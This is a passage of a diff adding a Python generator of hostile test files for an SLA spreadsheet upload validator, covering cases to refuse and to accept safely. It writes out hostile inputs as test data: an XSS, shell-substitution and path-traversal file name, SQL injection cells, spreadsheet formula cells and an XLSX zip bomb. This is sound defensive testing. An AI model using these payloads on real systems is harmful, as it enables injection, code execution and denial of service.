+    ]:  # fmt: skip
+        data = aggregate_with(["2026-09-07", "L&R", "FRT", *bad], header)
+        refused(case_id, f"{case_id[8:]}.csv", data, reason, row=3, column=column)
+    refused(
+        "refused-aggregate-same-week-twice",
+        "agg_twice.csv",
+        csv_bytes(AGGREGATE_HEADER, [["2026-09-07", "L&R", "FRT", "9", "10"], ["2026-09-09", "L&R", "FRT", "8", "10"]]),
+        "rows 2 and 3 both give FRT for L&R",
+        row=3,
+    )
+
+    # Headers and values.
+    refused(
+        "refused-duplicate-header-names",
+        "duplicate_header.csv",
+        csv_bytes([*SLA_HEADER, "SLA target status"], [[*GOOD_ROW, "Breached"]]),
+        "the header 'SLA target status' appears 2 times",
+        column="SLA target status",
+    )
+    refused(
+        "refused-unknown-target-status",
+        "pending.csv",
+        sla_with(sla_row(status="Pending")),
+        "'Pending' is not a target status",
+        row=3,
+        column="SLA target status",
+    )
+    refused(
+        "refused-missing-date-column",
+        "no_date.csv",
+        csv_bytes(SLA_HEADER[:5], [GOOD_ROW[:5]]),
+        "missing column for Explore SLA events",
+        column=DATE_COLUMN,
+    )
+    refused("refused-header-of-delimiters-only", "commas.csv", b",,,,,,\n,,,,,,\n1,2,3,4,5,6,7\n", "no header row")
+    refused(
+        "refused-totals-rows-only",
+        "totals_only.csv",
+        csv_bytes(SLA_HEADER, [["Total", "", "", "", "", "", ""], ["Grand total", "", "", "", "", "", ""]]),
+        "nothing in scope",
+    )
+
+    # Refused, with a hostile name: the message carries the name as text, and nothing more.
+    refused(
+        "refused-with-html-and-shell-name",
+        "hostile_name_refused.csv",
+        b"",
+        "the file is empty",
+        upload_name='<img src=x onerror="alert(1)">$(id);../../x.csv',
+    )
+
+    # Fine data in a hostile dress: accepted, safely.
+    for case_id, upload_name in HOSTILE_NAMES.items():
+        row = sla_row(ticket=str(6000 + len(cases)))  # a different file (hash) for each name
+        data = csv_bytes(SLA_HEADER, [*GOOD_ROWS, row])
+        accepted(case_id, f"{case_id}.csv", data, "file_name", upload_name=upload_name, rows_used=4)
+    # One breached SaaS target carries formulas in its ticket, region and group (so it is behind the
+    # combined figure's drill-down); another carries one as its ticket form (so it counts as Other).
+    in_combined = [FORMULAS["ticket"], "SaaS", "First reply time", "Completed", "Breached", "2026-09-08"]
+    as_form = ["5301", FORMULAS["form"], "First reply time", "Completed", "Breached", "2026-09-09", "EMEA", ""]
+    accepted(
+        "accepted-formula-cells-neutralised-in-downloads",
+        "formulas.csv",
+        csv_bytes(
+            [*SLA_HEADER, "Ticket group"],
+            [[*GOOD_ROWS[0], ""], [*in_combined, FORMULAS["region"], FORMULAS["group"]], as_form, [*GOOD_ROWS[4], ""]],
+        ),
+        "formulas",
+        upload_name=FORMULAS["file name"],
+        rows_used=2,
+    )
+    sql_row = sla_row(form="x'); DROP TABLE uploads; --", region="' OR 1=1 --")
+    accepted("accepted-sql-in-cells-stored-as-text", "sql_cells.csv", csv_bytes(SLA_HEADER, [*GOOD_ROWS, sql_row]),
+             "text", rows_used=4)  # fmt: skip
+    accepted(
+        "accepted-xlsx-dimension-understates-rows",
+        "short_dimension.xlsx",
+        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS], dimension="A1:G2")),
+        why="the sheet says it ends at row 2; every row must still be read",
+    )
+    accepted(
+        "accepted-xlsx-dimension-claims-a-million-rows-by-16384-columns",
+        "huge_dimension.xlsx",
+        xlsx_bytes(sheet_xml([SLA_HEADER, *GOOD_ROWS], dimension="A1:XFD1048576")),
+        why="a false size must not make the reader pad every row to 16,384 cells",
+    )
+    return cases
+
+
+def cases() -> list[Case]:
+    """The cases alone (cheap: large files are not built)."""
+    return [case for case, _ in corpus()]
+
+
+def write_corpus(folder: Path) -> list[Case]:
+    """Write every corpus file into ``folder`` (plus manifest.json) and return the cases."""
+    folder.mkdir(parents=True, exist_ok=True)
+    cases = []
+    for case, data in corpus():
+        path = folder / case.file
+        if data is None:
+            bomb_xlsx(path, unpacked_bytes=2_300_000_000)
+        else:
+            path.write_bytes(data() if callable(data) else data)
+        cases.append(case)
+    (folder / "manifest.json").write_text(json.dumps([asdict(c) for c in cases], indent=2))
+    return cases
+
+
+if __name__ == "__main__":
+    if len(sys.argv) != 2:
+        sys.exit("usage: python tests/hostile/make_corpus.py OUTPUT_FOLDER")
+    written = write_corpus(Path(sys.argv[1]))
+    print(f"{len(written)} files written to {sys.argv[1]} (manifest.json says what each must do)")
